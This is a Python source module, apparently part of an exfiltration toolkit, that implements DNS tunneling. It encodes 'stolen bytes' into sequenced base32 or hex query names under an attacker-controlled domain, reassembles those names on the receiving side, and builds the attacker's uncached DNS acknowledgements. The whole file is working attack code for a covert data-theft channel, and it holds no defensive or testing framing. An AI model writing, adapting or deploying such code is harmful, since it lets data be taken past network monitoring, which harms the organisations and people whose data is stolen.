"""dns_tunnel: stolen bytes as query names under a zone the attacker answers for.

A name is (session u16, sequence u32, data) written in base32 (RFC 4648, lower case, no padding) or hex, cut into
labels, then the zone. Sequence numbers start where the caller says and count names, so that lost, repeated and
reordered queries show.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterable
from itertools import pairwise

from mimir.exfiltration.dns_messages import response_message, text_data, wire_name
from mimir.spec.exfiltration import DnsTunnelSpec

_PREFIX = struct.Struct("!HI")
SHORTEST_LABEL = 4
_ACKNOWLEDGED = {"TXT": text_data(b"ok"), "A": b"\x7f\x00\x00\x01", "NULL": b"ok"}


def name_capacity(spec: DnsTunnelSpec) -> int:
    """Stolen bytes one name holds; ≤ 0 when the limits leave no room."""
    room = spec.name_bytes - len(spec.domain)  # for characters and one dot after each label
    full, rest = divmod(room, spec.label_bytes + 1)
    characters = full * spec.label_bytes + max(0, rest - 1)
    raw = characters * 5 // 8 if spec.encoding == "base32" else characters // 2
    return raw - _PREFIX.size


def encode(data: bytes, spec: DnsTunnelSpec, session: int, first_sequence: int) -> list[bytes]:
    """Query names (text, no final dot) that hold `data`, in order. ValueError when the limits leave no room.

    `session` is 16 bit, sequence numbers 32 bit; both wrap.
    """
    size = name_capacity(spec)
    if size < 1:
        raise ValueError(f"names of {spec.name_bytes} bytes leave no room for data under {spec.domain}")
    tail = spec.domain.encode("ascii")
    names = []
    for number, begin in enumerate(range(0, len(data), size)):
        raw = _PREFIX.pack(session & 0xFFFF, (first_sequence + number) & 0xFFFFFFFF) + data[begin : begin + size]
        text = _write(raw, spec.encoding)
        labels = [text[at : at + spec.label_bytes] for at in range(0, len(text), spec.label_bytes)]
        names.append(b".".join([*labels, tail]))
    return names


def decode(names: Iterable[bytes], spec: DnsTunnelSpec) -> bytes:
    """The data of one session, whatever the order and however often a name came. Inverse of `encode`.

    ValueError for a name that is not of this tunnel, for two sessions mixed, and for missing sequence numbers (named).
    """
    tail = b"." + spec.domain.encode("ascii").lower()
    pieces: dict[int, bytes] = {}
    sessions = set()
    for name in names:
        plain = name.removesuffix(b".").lower()
        if not plain.endswith(tail):
            raise ValueError(f"{name!r} is not a name under {spec.domain}")
        raw = _read(plain[: -len(tail)].replace(b".", b""), spec.encoding, name)
        session, sequence = _PREFIX.unpack_from(raw)
        sessions.add(session)
        pieces[sequence] = raw[_PREFIX.size :]
    if len(sessions) > 1:
        raise ValueError(f"names of {len(sessions)} sessions: {sorted(sessions)}")
    return b"".join(pieces[sequence] for sequence in _consecutive(pieces))


def answer(name: bytes, spec: DnsTunnelSpec, transaction: int = 0) -> bytes:
    """The attacker's answer to one query: a short acknowledgement of the type asked for, not to be cached."""
    data = _ACKNOWLEDGED.get(spec.record_type) or wire_name(b"ok." + spec.domain.encode("ascii"))
    return response_message(name, spec.record_type, transaction, [data], ttl_s=0)


def _consecutive(pieces: dict[int, bytes]) -> list[int]:
    """Sequence numbers in sending order; they may wrap at 32 bit."""
    present = sorted(pieces)
    jumps = [k for k, (a, b) in enumerate(pairwise(present), 1) if b != a + 1]
    wraps = len(jumps) == 1 and present[0] == 0 and present[-1] == 0xFFFFFFFF
    if jumps and not wraps:
        lost = [f"{present[k - 1] + 1} … {present[k] - 1}" for k in jumps]
        raise ValueError(f"missing sequence numbers {', '.join(lost)}")
    return present[jumps[0] :] + present[: jumps[0]] if wraps else present


def _write(raw: bytes, encoding: str) -> bytes:
    return base64.b32encode(raw).rstrip(b"=").lower() if encoding == "base32" else raw.hex().encode()


def _read(text: bytes, encoding: str, name: bytes) -> bytes:
    try:
        padded = text.upper() + b"=" * (-len(text) % 8)
        raw = base64.b32decode(padded) if encoding == "base32" else bytes.fromhex(text.decode())
    except ValueError as error:
        raise ValueError(f"{name!r} does not hold {encoding}: {error}") from error
    if len(raw) <= _PREFIX.size:
        raise ValueError(f"{name!r} holds {len(raw)} bytes, a name of this tunnel has more than {_PREFIX.size}")
    return raw
